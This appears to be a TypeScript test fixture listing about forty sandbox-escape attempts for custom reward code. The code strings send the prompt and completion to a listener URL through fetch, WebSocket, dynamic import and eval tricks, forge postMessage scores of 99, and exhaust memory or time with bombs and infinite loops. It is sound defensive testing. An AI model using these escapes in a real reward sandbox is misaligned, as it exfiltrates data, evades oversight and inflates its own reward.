// Custom reward code that tries to get out of its sandbox: reach the network (`leak` is the URL of a
// listener the test counts requests on), storage, the GPU, the page, the worker's host, or to take the
// training down with memory, time, recursion or a huge result. Shared by the Node tests and the e2e run.
// Each one must fail (or score without reaching anything) within the call's time limit.
export interface Escape {
  name: string;
  code: string;
}

export function escapes(leak: string): Escape[] {
  const url = (tag: string) => JSON.stringify(`${leak}?via=${tag}&c=`);
  const payload = 'encodeURIComponent(sample.prompt + sample.completion)';
  return [
    {
      name: 'FontFace',
      code: `new FontFace('x', 'url(' + ${url('fontface')} + ${payload} + ')').load(); return 1;`,
    },
    {
      name: 'self.fonts',
      code: `self.fonts.add(new FontFace('y', 'url(' + ${url('fonts')} + ')')); self.fonts.load('1em y'); return 1;`,
    },
    {
      name: 'globalThis.fonts through the global',
      code: `const g = Function('return this')(); g.fonts.load('1em z'); g.FontFace; return 1;`,
    },
    { name: 'fetch', code: `return fetch(${url('fetch')} + ${payload}).then(() => 1);` },
    {
      name: 'XMLHttpRequest',
      code: `const x = new XMLHttpRequest(); x.open('GET', ${url('xhr')}); x.send(); return 1;`,
    },
    { name: 'WebSocket', code: `new WebSocket(${url('ws')}.replace('http', 'ws')); return 1;` },
    { name: 'sendBeacon', code: `navigator.sendBeacon(${url('beacon')}, 'x'); return 1;` },
    { name: 'importScripts', code: `importScripts(${url('importscripts')}); return 1;` },
    { name: 'Worker', code: `new Worker(${url('worker')}); return 1;` },
    {
      name: 'webkitRequestFileSystemSync',
      code: `const fs = webkitRequestFileSystemSync(0, 200 * 1024 * 1024); fs.root.getFile('a', { create: true }); return 1;`,
    },
    { name: 'indexedDB', code: `indexedDB.open('x'); return 1;` },
    { name: 'caches', code: `return caches.open('x').then(() => 1);` },
    { name: 'OffscreenCanvas', code: `return new OffscreenCanvas(1, 1).getContext('webgl2') ? 1 : 0;` },
    { name: 'heap bomb', code: `const a = []; for (;;) a.push(new Array(2e7).fill(1.5));` },
    { name: 'string bomb', code: `let s = 'x'; for (;;) s += s; ` },
    {
      name: 'Function via the async function prototype',
      code: `return Object.getPrototypeOf(async function () {}).constructor('return fetch(' + ${JSON.stringify(JSON.stringify(leak))} + ')')();`,
    },
    {
      name: 'Function via a generator prototype',
      code: `return Object.getPrototypeOf(function* () {}).constructor('yield self')().next().value.postMessage('x');`,
    },
    {
      name: 'Function via an async generator prototype',
      code: `return Object.getPrototypeOf(async function* () {}).constructor('yield import(' + ${JSON.stringify(JSON.stringify(leak))} + ')')().next();`,
    },
    {
      name: 'Function via an array',
      code: `const g = [].constructor.constructor('return this')(); return g.fetch(${url('array-ctor')});`,
    },
    { name: 'import()', code: `return import(${url('import')});` },
    { name: 'import() with a comment', code: `return import(/* x */ ${url('import-comment')});` },
    { name: 'import() on a new line', code: `return import\n(${url('import-newline')});` },
    {
      name: 'import() through eval',
      code: `return eval('imp' + 'ort(' + ${JSON.stringify(JSON.stringify(leak))} + ')');`,
    },
    { name: 'import() through indirect eval', code: `return (0, eval)('import("' + ${url('indirect')} + '")');` },
    {
      name: 'import() through Function',
      code: `return Function('return import(' + ${JSON.stringify(JSON.stringify(leak))} + ')')();`,
    },
    { name: 'import.meta', code: `return import.meta.url;` },
    { name: 'postMessage', code: `postMessage({ kind: 'scored', id: 0, result: { score: 99 } }); return 0;` },
    {
      name: 'self.postMessage',
      code: `self.postMessage({ kind: 'scored', id: 1, result: { score: 99 } }); return 0;`,
    },
    { name: 'Atomics.wait', code: `return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);` },
    { name: 'deep recursion', code: `const f = (n) => f(n + 1) + 1; return f(0);` },
    { name: 'deeply nested result', code: `let o = 1; for (let i = 0; i < 1e6; i++) o = [o]; return o;` },
    { name: 'endless loop', code: `for (;;) {}` },
    { name: 'catastrophic regular expression', code: `return /^(a+)+$/.test('a'.repeat(40) + 'b') ? 1 : 0;` },
    { name: 'getter that throws', code: `return { get score() { throw new Error('no'); } };` },
    { name: 'getter that loops', code: `return { get score() { for (;;) {} } };` },
    { name: 'toJSON that loops', code: `return { toJSON() { for (;;) {} } };` },
    { name: 'thrown value whose message loops', code: `throw { get message() { for (;;) {} } };` },
    { name: 'promise that never settles', code: `return new Promise(() => {});` },
    { name: 'huge return value', code: `return { score: 1, details: { text: 'x'.repeat(1e6) } };` },
    {
      name: 'huge return value past the memory limit',
      code: `return { score: 1, details: { text: 'x'.repeat(2 ** 29) } };`,
    },
  ];
}
